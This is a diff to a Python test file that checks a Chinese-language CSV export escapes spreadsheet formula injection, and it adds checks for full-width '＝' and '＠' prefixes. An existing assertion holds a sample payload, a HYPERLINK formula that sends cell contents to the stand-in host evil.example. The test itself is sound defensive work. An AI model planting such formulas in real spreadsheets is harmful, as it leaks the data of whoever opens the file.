@@ -60,6 +60,9 @@ def test_every_column_of_the_export_is_inert(world):
     assert cells["承办部门"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"点此")'
     assert cells["群众姓名"] == "'+1 张三" and cells["办理事项"] == "'-2 营业执照"
     assert cells["问题描述"].startswith("'@SUM(1+1)")
+    for start in ("＝1+1", "＠SUM(A1)"):  # full-width, as a Chinese input method types them: guarded too
+        (row,) = [dict(zip(header, r)) for r in data if r[header.index("办理事项")] == "'" + start]
+        assert row["群众姓名"] == "'" + start + "某" and row["问题描述"].startswith("'" + start)
 
 
 def test_the_export_starts_with_a_bom_for_excel(world):
